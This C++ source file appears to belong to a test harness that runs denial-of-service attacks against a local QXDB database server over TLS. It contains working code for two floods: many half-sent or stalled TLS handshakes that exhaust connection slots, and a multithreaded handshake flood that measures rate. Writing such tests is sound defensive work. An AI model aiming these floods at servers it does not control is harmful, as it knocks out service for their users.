// Attacks with TLS before any login.
#include <chrono>
#include <list>
#include <string>
#include <thread>

#include <ace/INET_Addr.h>
#include <ace/SOCK_Connector.h>

#include "attacks.h"
#include "tls/client_stream.h"

namespace qxdb_attack {
namespace {

using std::chrono::seconds;
namespace tls = CQXBASE::tls;

CQXDB::QXTlsInfo Anybody() {
    CQXDB::QXTlsInfo info;
    info.enabled = true;
    info.trustAnyServerWithoutVerification = true;
    return info;
}

/// A connection over TLS that says nothing more once it has shaken hands.
class Stranger {
  public:
    Stranger(const Target& target, const tls::Context& context) {
        const ACE_INET_Addr address(target.Port(), "127.0.0.1");
        if (ACE_SOCK_Connector().connect(socket_, address) == -1) {
            throw std::runtime_error("no connection");
        }
        tls_ = std::make_unique<tls::ClientStream>(context, socket_, Anybody(), L"127.0.0.1");
    }
    ~Stranger() { socket_.close(); }
    Stranger(const Stranger&) = delete;
    Stranger& operator=(const Stranger&) = delete;

    bool Shake() { return tls_->Handshake(seconds(20)); }
    /// Begins as a handshake does, and stays there.
    void SendBytes(const std::string& bytes) { socket_.send_n(bytes.data(), bytes.size()); }

  private:
    ACE_SOCK_Stream socket_;
    std::unique_ptr<tls::ClientStream> tls_;
};

/// Twice as many as there may be connections, in each state in which a handshake can be left.
void SilentHandshakes(Target& target) {
    constexpr int kEach = 400;
    const tls::Context context = tls::ClientContext(Anybody());
    std::list<Stranger> crowd;
    for (int i = 0; i < kEach; ++i) {
        crowd.emplace_back(target, context);
        // A record of 16 KiB that never comes to its end.
        crowd.back().SendBytes(std::string("\x16\x03\x01\x3f\xff\x01\x00\x3f\xfb", 9) +
                               std::string(16000, 'x'));
        crowd.emplace_back(target, context);
        crowd.back().Shake();
    }
    std::this_thread::sleep_for(seconds(3));
}

/// New handshakes as fast as two processors make them.
void EndlessHandshakes(Target& target) {
    const tls::Context context = tls::ClientContext(Anybody());
    std::atomic<int> done{0};
    AtOnce(16, [&](int) {
        const auto end = std::chrono::steady_clock::now() + seconds(6);
        while (std::chrono::steady_clock::now() < end) {
            try {
                done += Stranger(target, context).Shake() ? 1 : 0;
            } catch (const std::exception&) {
                // No place, for now.
            }
        }
    });
    std::printf("    %d handshakes a second\n", done / 6);
}

}  // namespace

const std::vector<Attack>& AttacksByHandshakes() {
    static const std::vector<Attack> attacks = {
        {"TLS handshakes left in the middle, and silence behind whole ones", SilentHandshakes},
        {"TLS handshakes without end", EndlessHandshakes},
    };
    return attacks;
}

}  // namespace qxdb_attack
